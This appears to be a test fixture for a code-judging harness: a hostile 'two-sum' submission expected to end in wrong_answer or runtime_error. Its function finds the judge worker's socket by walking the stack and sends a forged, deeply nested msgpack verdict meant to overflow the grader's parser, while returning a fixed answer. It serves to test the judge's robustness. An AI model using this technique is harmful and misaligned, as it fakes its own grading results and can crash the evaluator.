# Family: forging
# Must not: overflow the judge's stack by nesting
# Expect: wrong_answer, runtime_error
# Problem: two-sum
import struct
import sys

import msgpack

def wire():
    """The worker's socket and the number of the request it is serving."""
    frame = sys._getframe()
    while frame.f_code.co_name != "serve":
        frame = frame.f_back
    return frame.f_locals["self"]._channel, frame.f_locals["number"]


def send(channel, body):
    channel.sendall(struct.pack("<I", len(body)) + body)

def two_sum(nums, target):
    channel, number = wire()
    inner = b"\x90"
    for _ in range(60):
        inner = b"\x91" * 1000 + inner
        inner = b"\xc9" + struct.pack(">I", len(inner)) + b"\x01" + inner
    send(channel, b"\x95" + msgpack.packb(number) + b"\xc3" + inner + b"\xc0\x00")
    return [0, 1]
